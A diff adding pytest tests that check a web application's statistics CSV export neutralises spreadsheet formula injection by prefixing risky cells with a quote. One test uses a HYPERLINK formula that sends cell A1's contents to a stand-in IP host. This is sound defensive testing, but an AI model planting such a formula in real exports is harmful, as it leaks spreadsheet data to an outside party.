@@ -7,9 +7,17 @@ import csv
 import io
 import re
 
+import polars as pl
 import pytest
+from sqlalchemy import select
 
-from tests.web.conftest import Visitor
+from ftzlink.auth.models import User
+from ftzlink.auth.service import principal_for
+from ftzlink.catalogue.models import Catalogue
+from ftzlink.db import Database
+from ftzlink.exports import neutralise_frame, spreadsheet_cell
+from ftzlink.organisations.service import update_organisation
+from tests.web.conftest import OPEN_DAY, Visitor
 
 
 def english(visitor: Visitor) -> None:
@@ -163,3 +171,45 @@ def test_the_csv_of_a_wrong_period_is_the_page_with_the_error(visitor: Visitor) 
     assert answer.status_code == 400
     assert answer.headers["content-type"].startswith("text/html")
     assert 'href="#to"' in answer.text
+
+
+def test_a_name_that_is_a_spreadsheet_formula_reaches_the_csv_as_text(
+    visitor: Visitor, demo_database: Database, catalogue: Catalogue
+) -> None:
+    formula = '=HYPERLINK("http://203.0.113.9/?"&A1,"点击")'
+    with demo_database.write() as session:
+        admin = session.scalars(select(User).where(User.username == "cn-ai-admin")).one()
+        principal = principal_for(admin)
+        org_id = next(iter(principal.member_of()))
+        update_organisation(
+            session,
+            principal=principal,
+            catalogue=catalogue,
+            organisation_id=org_id,
+            on=OPEN_DAY,
+            changes={"name": formula},
+        )
+    visitor.sign_in("cn-reviewer")
+    answer = visitor.get("/statistics.csv?from=2025-01-01&to=2025-12-31")
+    header, *rows = rows_of(answer.content.decode("utf-8"))
+    names = {r[1] for r in rows}  # the organisation column
+    assert "'" + formula in names
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
+
+
+@pytest.mark.parametrize(
+    ("cell", "shown"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+86 21 5555", "'+86 21 5555"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tcmd", "'\tcmd"),
+        ("\rcmd", "'\rcmd"),
+        ("上海 =1", "上海 =1"),
+        ("", ""),
+    ],
+)
+def test_every_cell_a_spreadsheet_would_run_is_prefixed_with_a_quote(cell: str, shown: str) -> None:
+    assert spreadsheet_cell(cell) == shown
+    assert neutralise_frame(pl.DataFrame({"name": [cell], "n": [-2]})).row(0) == (shown, -2)
